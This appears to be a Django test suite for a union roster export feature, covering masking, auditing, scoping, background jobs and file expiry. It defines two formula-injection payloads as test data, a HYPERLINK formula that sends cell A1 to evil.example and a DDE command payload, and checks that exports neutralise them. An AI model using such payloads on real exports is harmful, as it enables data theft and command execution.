"""Roster export from the console: the list's search as .xlsx or .csv, masked unless the officer
may see full numbers, every export audited, no cell starting a formula, scoped like the list. A
small export downloads at once; a large one is a background job with progress whose file only
the officer who started it can download, for a day."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.utils import timezone
from python_calamine import CalamineWorkbook

from gonghui.accounts.models import User
from gonghui.core.errors import Forbidden
from gonghui.core.models import AuditEvent
from gonghui.jobs.models import Job, JobStatus
from gonghui.members.models import Member, MemberStatus, RosterExport
from gonghui.members.selectors import MemberFilter
from gonghui.members.services import exports
from gonghui.members.tasks import run_roster_export_task
from gonghui.members.tests.factories import make_members, member_row
from gonghui.orgs.models import Role, RoleGrant
from gonghui.orgs.tests.factories import Tree, client_for, make_workplace, officer_at

pytestmark = pytest.mark.django_db

ID_NUMBER = "330203199001011236"
MOBILE = "13912345678"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE_REASON = "=cmd|' /C calc'!A0"


@pytest.fixture
def known(tree: Tree) -> Member:
    workplace = make_workplace(tree.town, tree.acme, name="东区甲公司")
    return Member.objects.bulk_create(
        [member_row(tree.acme, name="张伟明", id_number=ID_NUMBER, mobile=MOBILE, workplace=workplace)]
    )[0]


def _export(user: User, **data: str) -> Any:
    response = client_for(user).post("/console/members/export/", {"file_format": "xlsx", **data})
    assert response.status_code == 200, response
    assert response.streaming  # the file is streamed, not held in memory as one response body
    return response


def _content(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def _rows(content: bytes) -> list[list[Any]]:
    rows: list[list[Any]] = (
        CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    )
    return rows


def _admin(tree: Tree) -> User:
    return officer_at(tree.east, "east.admin")


def test_the_export_is_a_workbook_with_chinese_headers_and_masked_numbers(tree: Tree, known: Member) -> None:
    response = _export(officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER))

    rows = _rows(_content(response))
    assert rows[0][:5] == ["姓名", "身份证号", "性别", "出生日期", "手机号"]
    assert rows[1][:2] == ["张**", "330203********1236"]
    assert rows[1][4] == "139****5678"
    assert rows[1][5] == "东区甲公司工会"
    assert len(rows) == 2
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_a_masked_export_is_audited_too(tree: Tree, known: Member) -> None:
    officer = officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER)

    _export(officer)

    event = AuditEvent.objects.get(action="members.export")
    assert event.actor == officer
    assert "1" in event.note
    assert "xlsx" in event.note


def test_the_export_holds_only_the_members_in_scope(tree: Tree, known: Member) -> None:
    outside = make_members(tree.gamma, 2)

    rows = _rows(_content(_export(officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER))))

    id_numbers = {row[1] for row in rows[1:]}
    assert id_numbers == {"330203********1236"}
    assert not {member.masked_id_number for member in outside} & id_numbers


def test_the_export_follows_the_search(tree: Tree, known: Member) -> None:
    make_members(tree.acme, 3)
    make_members(tree.beta, 2)

    admin = _admin(tree)

    by_name = _rows(_content(_export(admin, q="张伟")))
    by_org = _rows(_content(_export(admin, org=tree.beta.code)))
    with_left = make_members(tree.beta, 1, status=MemberStatus.LEFT)[0]
    by_status = _rows(_content(_export(admin, status="left")))

    assert [row[1] for row in by_name[1:]] == ["330203********1236"]
    assert len(by_org) == 3
    assert [row[1] for row in by_status[1:]] == [with_left.masked_id_number]


def test_full_numbers_for_an_officer_who_may_see_them_are_audited_as_such(tree: Tree, known: Member) -> None:
    admin = _admin(tree)

    rows = _rows(_content(_export(admin, full_numbers="on")))

    assert rows[1][:2] == ["张伟明", ID_NUMBER]
    assert rows[1][4] == MOBILE
    event = AuditEvent.objects.get(action="members.export_full")
    assert event.actor == admin
    assert ID_NUMBER not in event.note
    assert MOBILE not in event.note
    assert not AuditEvent.objects.filter(action="members.export").exists()


def test_full_numbers_are_refused_to_an_officer_who_may_not_see_them(tree: Tree, known: Member) -> None:
    officer = officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER)

    response = client_for(officer).post(
        "/console/members/export/", {"file_format": "xlsx", "full_numbers": "on"}, follow=True
    )

    html = response.content.decode()
    assert "您无权导出这些会员的完整身份证号和手机号" in html
    assert ID_NUMBER not in html
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        names = [name for name in workbook.namelist() if name.startswith("xl/worksheets/")]
        strings = (
            workbook.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in workbook.namelist()
            else ""
        )
        return "".join(workbook.read(name).decode() for name in names) + strings


@pytest.mark.parametrize("full", [True, False])
def test_no_cell_starts_a_formula(tree: Tree, full: bool) -> None:
    hostile = member_row(tree.acme, name=HOSTILE_NAME, status=MemberStatus.LEFT)
    hostile.end_reason = HOSTILE_REASON
    Member.objects.bulk_create([hostile])

    content = _content(_export(_admin(tree), status="left", **({"full_numbers": "on"} if full else {})))

    rows = _rows(content)
    cells = [str(cell) for cell in rows[1]]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert f"'{HOSTILE_REASON}" in cells
    if full:
        assert f"'{HOSTILE_NAME}" in cells
    assert "<f>" not in _sheet_xml(content)  # no formula element anywhere in the workbook


def test_the_csv_export_has_a_byte_order_mark_and_neutralised_cells(tree: Tree, known: Member) -> None:
    hostile = member_row(tree.acme, name=HOSTILE_NAME)
    Member.objects.bulk_create([hostile])

    response = client_for(_admin(tree)).post(
        "/console/members/export/", {"file_format": "csv", "full_numbers": "on"}
    )

    content = _content(response)
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("姓名,身份证号")
    assert f"张伟明,{ID_NUMBER}" in text
    assert not [line for line in lines if line.startswith(("=", "+", "-", "@"))]
    assert "'=HYPERLINK" in text


def test_bad_export_options_are_refused_without_a_file(tree: Tree, known: Member) -> None:
    response = client_for(_admin(tree)).post("/console/members/export/", {"file_format": "pdf"}, follow=True)

    assert "无法开始导出" in response.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()


def test_a_bad_search_is_refused_without_a_file(tree: Tree, known: Member) -> None:
    response = client_for(_admin(tree)).post(
        "/console/members/export/", {"file_format": "xlsx", "q": "张"}, follow=True
    )

    assert "请至少输入姓名的两个字" in response.content.decode()
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()


def test_the_export_reads_in_batches_with_a_bounded_number_of_queries(
    tree: Tree, known: Member, monkeypatch, django_assert_max_num_queries
) -> None:
    monkeypatch.setattr(exports, "EXPORT_BATCH", 10)
    make_members(tree.acme, 25)
    make_members(tree.beta, 25)
    client = client_for(_admin(tree))

    # The session, the user and their grants, the audit event, the probe that finds the export
    # small enough to download at once, and per batch of 10 one query (two on PostgreSQL: the
    # page's ids union by union, then their rows; see selectors).
    per_batch = 2 if connection.vendor == "postgresql" else 1
    with django_assert_max_num_queries(9 + 6 * per_batch):
        response = client.post("/console/members/export/", {"file_format": "xlsx"})

    rows = _rows(_content(response))
    assert len(rows) == 52
    assert len({row[1] for row in rows[1:]}) == 51


def test_a_large_export_goes_on_over_further_sheets(tree: Tree) -> None:
    handle = io.BytesIO()
    rows: Iterator[list[str | date | None]] = iter([["x"] * len(exports.COLUMNS) for _ in range(5)])

    total = exports.write_xlsx(handle, rows, sheet_name="会员", rows_per_sheet=2)

    workbook = CalamineWorkbook.from_filelike(io.BytesIO(handle.getvalue()))
    assert total == 5
    assert workbook.sheet_names == ["会员", "会员 (2)", "会员 (3)"]
    assert len(workbook.get_sheet_by_index(2).to_python()) == 2  # header and the fifth row


# --------------------------------------------------------------------------------------------
# Large exports: a background job
# --------------------------------------------------------------------------------------------

EXPORT = "/console/members/export/"


@pytest.fixture
def large(monkeypatch: pytest.MonkeyPatch, settings: Any, tmp_path: Path) -> None:
    """Exports of more than two members become jobs; files go to a folder of the test's own."""
    monkeypatch.setattr(exports, "DIRECT_EXPORT_LIMIT", 2)
    settings.MEDIA_ROOT = str(tmp_path)


def _start(client: Client, **data: str) -> RosterExport:
    response = client.post(EXPORT, {"file_format": "xlsx", **data})
    assert response.status_code == 302, response
    export = RosterExport.objects.get()
    assert response["Location"] == f"/console/members/exports/{export.pk}/"
    return export


def _run(export: RosterExport) -> RosterExport:
    """What a worker does with the queued task."""
    assert export.job is not None
    run_roster_export_task.call(export.job.pk, export.pk)
    return RosterExport.objects.select_related("job").get(pk=export.pk)


def _download(client: Client, export: RosterExport) -> Any:
    return client.get(f"/console/members/exports/{export.pk}/download")


def test_a_small_export_downloads_at_once_and_a_larger_one_becomes_a_job(
    tree: Tree, known: Member, large: None
) -> None:
    client = client_for(_admin(tree))
    make_members(tree.acme, 1)

    at_the_limit = client.post(EXPORT, {"file_format": "xlsx"})
    make_members(tree.acme, 1)
    over_it = client.post(EXPORT, {"file_format": "xlsx"})

    assert at_the_limit.status_code == 200
    assert at_the_limit.streaming
    assert over_it.status_code == 302
    assert RosterExport.objects.count() == 1


def test_a_large_export_shows_its_progress_then_downloads_with_the_rows(
    tree: Tree, known: Member, large: None
) -> None:
    make_members(tree.acme, 3)
    admin = _admin(tree)
    client = client_for(admin)

    export = _start(client, org=tree.acme.code)
    waiting = client.get(export.get_absolute_url())

    html = waiting.content.decode()
    assert f'id="job-{export.job_id}-progress"' in html
    assert f'hx-get="/console/members/exports/{export.pk}/"' in html  # the bar polls this page
    assert "0%" in html
    assert "style=" not in html  # strict CSP: no inline style, and no inline script
    assert not re.search(r"<script(?![^>]*\bsrc=)", html)
    assert "no-store" in waiting["Cache-Control"]
    assert _download(client, export).status_code == 404  # nothing to download yet
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()

    export = _run(export)

    assert export.job is not None
    assert export.job.status == JobStatus.SUCCEEDED
    assert (export.job.progress_done, export.job.progress_total) == (4, 4)
    assert export.job.message == "已导出 4 名会员。"
    polled = client.get(
        export.get_absolute_url(),
        headers={"HX-Request": "true", "HX-Target": f"job-{export.job_id}-progress"},
    )
    assert polled["HX-Refresh"] == "true"  # the bar reloads the page, which now has the link
    ready = client.get(export.get_absolute_url()).content.decode()
    assert "导出已完成：4 名会员。" in ready
    assert f"/console/members/exports/{export.pk}/download" in ready
    response = _download(client, export)
    assert response.status_code == 200
    assert response.streaming
    assert "no-store" in response["Cache-Control"]
    assert "attachment" in response["Content-Disposition"]
    rows = _rows(_content(response))
    assert len(rows) == 5
    assert rows[1][:2] == ["张**", "330203********1236"]  # masked
    event = AuditEvent.objects.get(action="members.export")
    assert event.actor == admin
    assert "4" in event.note


def test_the_progress_moves_batch_by_batch(
    tree: Tree, known: Member, large: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "EXPORT_BATCH", 2)
    make_members(tree.acme, 4)
    export = _start(client_for(_admin(tree)))
    seen: list[tuple[int, int]] = []

    exports.run_roster_export(export.pk, progress=lambda done, total: seen.append((done, total)))

    assert seen == [(0, 5), (2, 5), (4, 5), (5, 5)]


def test_only_the_officer_who_started_an_export_sees_it(tree: Tree, known: Member, large: None) -> None:
    make_members(tree.acme, 3)
    owner = client_for(_admin(tree))
    export = _run(_start(owner))
    colleague = officer_at(tree.east, "east.colleague")  # the same role over the same members
    superior = officer_at(tree.city, "city.admin")
    superuser = User.objects.create_superuser("root", password="x")

    for other in (colleague, superior, superuser):
        client = client_for(other)
        assert client.get(export.get_absolute_url()).status_code == 404
        assert _download(client, export).status_code == 404
    assert owner.get(f"/console/members/exports/{export.pk + 1}/").status_code == 404  # missing alike
    assert _download(owner, export).status_code == 200


def test_a_job_with_full_numbers_holds_them_and_each_download_is_audited(
    tree: Tree, known: Member, large: None
) -> None:
    make_members(tree.acme, 3)
    admin = _admin(tree)
    client = client_for(admin)

    export = _run(_start(client, full_numbers="on"))
    first = _rows(_content(_download(client, export)))
    _content(_download(client, export))

    assert first[1][:2] == ["张伟明", ID_NUMBER]
    assert first[1][4] == MOBILE
    assert AuditEvent.objects.filter(action="members.export_full", actor=admin).count() == 1
    downloads = AuditEvent.objects.filter(action="members.export_download", actor=admin)
    assert downloads.count() == 2
    assert not [event for event in downloads if ID_NUMBER in event.note or MOBILE in event.note]


def test_full_numbers_in_a_job_are_refused_at_the_start_to_an_officer_who_may_not_see_them(
    tree: Tree, known: Member, large: None
) -> None:
    make_members(tree.acme, 3)
    officer = officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER)

    response = client_for(officer).post(EXPORT, {"file_format": "xlsx", "full_numbers": "on"}, follow=True)

    assert "您无权导出这些会员的完整身份证号和手机号" in response.content.decode()
    assert not RosterExport.objects.exists()
    assert not Job.objects.exists()


def _take_reveal_away(user: User) -> None:
    RoleGrant.objects.filter(user=user).update(role=Role.AUDITOR)  # sees members, masked only


def test_full_numbers_are_checked_again_when_the_job_runs(tree: Tree, known: Member, large: None) -> None:
    make_members(tree.acme, 3)
    admin = _admin(tree)
    export = _start(client_for(admin), full_numbers="on")
    _take_reveal_away(admin)

    with pytest.raises(Forbidden):  # the task fails, and the backend records it
        _run(export)

    export.refresh_from_db()
    job = Job.objects.get(roster_export=export)
    assert job.status == JobStatus.FAILED
    assert "您无权导出" in job.message
    assert not export.file
    assert not AuditEvent.objects.filter(action__startswith="members.export").exists()
    html = client_for(admin).get(export.get_absolute_url()).content.decode()
    assert "导出未能完成" in html


def test_full_numbers_are_checked_again_when_the_file_is_downloaded(
    tree: Tree, known: Member, large: None
) -> None:
    make_members(tree.acme, 3)
    admin = _admin(tree)
    client = client_for(admin)
    export = _run(_start(client, full_numbers="on"))
    _take_reveal_away(admin)

    response = client.get(f"/console/members/exports/{export.pk}/download", follow=True)

    html = response.content.decode()
    assert response.redirect_chain == [(export.get_absolute_url(), 302)]
    assert "您已无权查看此导出中的完整号码" in html
    assert ID_NUMBER not in html
    assert not AuditEvent.objects.filter(action="members.export_download").exists()


def test_the_file_is_stored_under_a_random_name(tree: Tree, known: Member, large: None) -> None:
    make_members(tree.acme, 3)
    export = _run(_start(client_for(_admin(tree)), org=tree.acme.code))
    again = RosterExport.objects.create(
        created_by=export.created_by, file_format="xlsx", expires_at=export.expires_at
    )
    again = _run_without_job(again)

    assert re.fullmatch(r"roster_exports/[A-Za-z0-9_-]{32}\.xlsx", export.file.name)
    assert tree.acme.code not in export.file.name
    assert export.file.name != again.file.name
    assert default_storage.exists(export.file.name)


def _run_without_job(export: RosterExport) -> RosterExport:
    return exports.run_roster_export(export.pk)


def test_an_export_is_deleted_after_a_day(tree: Tree, known: Member, large: None) -> None:
    make_members(tree.acme, 3)
    admin = _admin(tree)
    client = client_for(admin)
    export = _run(_start(client))
    assert abs(export.expires_at - export.created_at - timedelta(hours=24)) < timedelta(minutes=1)
    name = export.file.name
    RosterExport.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(seconds=1))

    page = client.get(export.get_absolute_url()).content.decode()
    download = _download(client, export)

    assert "此导出已删除" in page
    assert f"/exports/{export.pk}/download" not in page
    assert download.status_code == 404
    assert default_storage.exists(name)  # until the cleanup runs

    call_command("purge_roster_exports", stdout=io.StringIO())

    assert not default_storage.exists(name)
    assert not RosterExport.objects.filter(pk=export.pk).exists()
    assert client.get(export.get_absolute_url()).status_code == 404


def test_starting_an_export_deletes_the_expired_ones(tree: Tree, known: Member, large: None) -> None:
    make_members(tree.acme, 3)
    client = client_for(_admin(tree))
    old = _run(_start(client))
    RosterExport.objects.filter(pk=old.pk).update(expires_at=timezone.now())

    officer = officer_at(tree.acme, "acme.officer", Role.UNION_OFFICER)
    client_for(officer).post(EXPORT, {"file_format": "csv"})

    assert not default_storage.exists(old.file.name)
    assert list(RosterExport.objects.values_list("created_by", flat=True)) == [officer.pk]


def test_the_job_reads_in_batches_with_a_bounded_number_of_queries(
    tree: Tree,
    known: Member,
    large: None,
    monkeypatch: pytest.MonkeyPatch,
    django_assert_max_num_queries: Any,
) -> None:
    monkeypatch.setattr(exports, "EXPORT_BATCH", 10)
    make_members(tree.acme, 25)
    make_members(tree.beta, 25)
    client = client_for(_admin(tree))
    export = _start(client)

    # The job read and marked running, the export read, the actor's grants, the count and the
    # first progress, then the export saved, the audit event and the job finished (13 with
    # the transaction's savepoint); per batch of 10 its read (two on PostgreSQL, see above) and
    # one progress UPDATE.
    per_batch = 3 if connection.vendor == "postgresql" else 2
    with django_assert_max_num_queries(13 + 6 * per_batch):
        export = _run(export)

    assert export.rows == 51
    rows = _rows(_content(_download(client, export)))
    assert len({row[1] for row in rows[1:]}) == 51


def test_a_csv_job_keeps_the_csv_format(tree: Tree, known: Member, large: None) -> None:
    make_members(tree.acme, 3)
    client = client_for(_admin(tree))

    export = _run(_start(client, file_format="csv"))
    response = _download(client, export)

    assert response["Content-Type"].startswith("text/csv")
    assert _content(response).startswith(b"\xef\xbb\xbf")
    assert export.file_name.endswith(".csv")


def test_the_search_is_not_kept_once_the_file_is_written(tree: Tree, known: Member, large: None) -> None:
    make_members(tree.acme, 3)
    export = exports.start_roster_export(
        MemberFilter(q=ID_NUMBER),
        actor=_admin(tree),
        file_format=exports.ExportFormat.XLSX,
        full_numbers=False,
    )
    with connection.cursor() as cursor:
        cursor.execute("SELECT search FROM members_rosterexport WHERE id = %s", [export.pk])
        stored = cursor.fetchone()[0]
    assert ID_NUMBER not in stored  # encrypted at rest

    export = _run(export)

    assert export.rows == 1
    assert export.search == ""
